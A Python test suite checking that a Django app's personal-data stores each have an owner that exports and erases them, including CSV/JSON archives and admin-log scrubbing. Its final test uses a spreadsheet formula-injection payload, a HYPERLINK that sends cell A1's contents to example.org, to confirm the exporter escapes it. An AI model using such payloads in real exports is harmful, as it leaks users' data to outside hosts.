"""Every store has an owner that exports and erases it, or a reason why it needs none."""

from __future__ import annotations

import csv
import json
import zipfile
from collections import Counter
from io import BytesIO, StringIO
from typing import get_args

import pytest
from asgiref.sync import async_to_sync
from django.apps import apps
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import User
from django.utils import timezone

from botrunner.accounts import local_person_id
from profiles.actions import decide_consent, meet
from whisper.environment import Environment
from whisper.personal_data import erasures, registry
from whisper.redis.keys import Keys

ANN = 410_000_000_000_000_301
# What names a person, in whatever table.
PERSONAL_COLUMNS = {"person_id", "author_name", "text"}
# Not keys of their own: they name all of them.
ABOUT_ALL_KEYS = {"any", "current", "prefix", "HISTORY_VERSION"}


def stores():
    """Return every store there is: tables, kinds of keys in Redis, engines that hold copies."""
    models = [model._meta.label for model in apps.get_models(include_auto_created=True)]
    keys = sorted({name for name in dir(Keys) if not name.startswith("_")} - ABOUT_ALL_KEYS)
    engines = get_args(Environment.model_fields["memory_index"].annotation)
    return [*models, *(f"redis {key}" for key in keys), *(f"index {name}" for name in engines)]


def declared():
    """Return what holders say of stores, and how many of them do."""
    return Counter(
        store for holder in registry.holders() for store in (*holder.holds, *holder.impersonal)
    )


@pytest.mark.parametrize("store", stores())
def test_every_store_has_one_owner(store):
    assert declared()[store] == 1, f"who exports and erases {store}?"


@pytest.mark.parametrize("holder", registry.holders(), ids=lambda holder: holder.name)
def test_every_store_says_whether_a_message_gets_into_it(holder):
    said = [*holder.from_messages, *holder.wordless]
    assert sorted(said) == sorted(holder.holds), "who follows an edit or a deletion there?"
    assert holder.withdraw is not None or not holder.from_messages


def test_nobody_owns_what_is_not_there():
    assert set(declared()) == set(stores())


def test_no_table_without_an_owner_has_a_column_that_names_a_person():
    impersonal = {store for holder in registry.holders() for store in holder.impersonal}
    for model in apps.get_models(include_auto_created=True):
        if model._meta.label in impersonal:
            assert not PERSONAL_COLUMNS & set(registry.columns(model)), model


@pytest.mark.django_db(transaction=True)
def test_an_export_holds_each_table_as_json_and_as_csv():
    decide_consent(ANN, granted=True, source="test")
    archive = async_to_sync(registry.export_archive)(ANN)
    files = zipfile.ZipFile(BytesIO(archive))
    tables = {name.removesuffix(".json") for name in files.namelist() if name.endswith(".json")}
    assert {f"{name}.csv" for name in tables} < set(files.namelist())
    rows = list(csv.DictReader(StringIO(files.read("consent.csv").decode())))
    assert rows[0]["person_id"] == str(ANN)
    assert json.loads(rows[0]["rules"]) == {}


@pytest.mark.heavy
@pytest.mark.django_db(transaction=True)
def test_an_account_of_the_console_is_exported_and_loses_its_names_and_sessions(
    client, admin_client
):
    account = User.objects.create_superuser("ann", "ann@example.org", "x", first_name="Annabel")
    client.force_login(account)
    exported = async_to_sync(registry.export_person)(local_person_id(account.pk))
    assert exported["account"][0]["first_name"] == "Annabel"
    assert len(exported["sessions"]) == 1
    async_to_sync(registry.erase_person)(local_person_id(account.pk))
    account.refresh_from_db()
    assert (account.username, account.first_name, account.email) == ("ann", "", "")
    assert client.get("/").status_code == 302
    assert admin_client.get("/").status_code == 200


@pytest.mark.django_db(transaction=True)
def test_names_of_an_account_that_a_backup_brings_back_go_again():
    account = User.objects.create_superuser("ann", "ann@example.org", "x")
    async_to_sync(registry.erase_person)(local_person_id(account.pk))
    User.objects.update(email="ann@example.org")
    erasures.reapply()
    account.refresh_from_db()
    assert account.email == ""


@pytest.mark.django_db(transaction=True)
def test_the_consoles_log_names_no_erased_person(admin_user):
    decide_consent(ANN, granted=True, source="test")
    profile = meet(ANN, name="Annabel", at=timezone.now())
    # As the console does where an admin changes a profile.
    LogEntry.objects.log_actions(admin_user.pk, [profile], CHANGE, change_message="name")
    assert LogEntry.objects.get().object_repr == "Annabel"
    async_to_sync(registry.erase_person)(ANN)
    assert LogEntry.objects.get().object_repr == str(ANN)


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_of_the_csv_is_a_formula(begins):
    said = f'{begins}HYPERLINK("http://example.org?"&A1)'
    cells = {"text": said, "id": "-7", "n": -7}
    (row,) = csv.DictReader(StringIO(registry.as_csv([cells]), newline=""))
    assert row["text"] == f"'{said}"
    assert (row["id"], row["n"]) == ("-7", "-7")
